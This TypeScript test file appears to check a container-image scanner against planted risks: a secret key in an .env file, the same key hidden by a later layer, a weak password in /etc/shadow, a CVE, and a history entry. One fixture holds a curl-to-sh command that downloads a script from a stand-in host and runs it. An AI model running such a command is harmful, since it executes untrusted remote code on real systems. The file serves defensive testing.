import type { Finding, Report } from '@veinmind/report'
import { expect, test } from 'vitest'
import { missingFindings } from './expected.ts'
import { riskyImage } from './risky-image.ts'

const report = (...findings: readonly Partial<Finding>[]): Report => ({ findings }) as unknown as Report

test('every planted risk that was not found is told', () => {
  expect(missingFindings(report())).toHaveLength(4)
  const shown = { plugin: 'sensitive', locations: [{ path: '/srv/app/.env' }] }
  const hidden = { plugin: 'sensitive', locations: [{ path: '/srv/app/.env', hiddenBy: 2 }] }
  const weak = { plugin: 'weakpass', locations: [{ path: '/etc/shadow' }] }
  const flaw = { plugin: 'vuln', rule: { id: 'CVE-2021-44420', title: 'a flaw', severity: 'high' as const } }
  const script = { plugin: 'history', evidence: 'curl http://get.example.com/install.sh | sh', locations: [] }
  expect(missingFindings(report(shown, weak, script, flaw))).toEqual(['the key in a file that an upper layer deletes'])
  expect(missingFindings(report(hidden, weak, script, flaw))).toEqual([])
})

test('the key is another one in each image', () => {
  const [one, other] = [riskyImage(), riskyImage()]
  expect(one.layers[0]?.digest).toBe(other.layers[0]?.digest)
  expect(one.layers[1]?.digest).not.toBe(other.layers[1]?.digest)
})
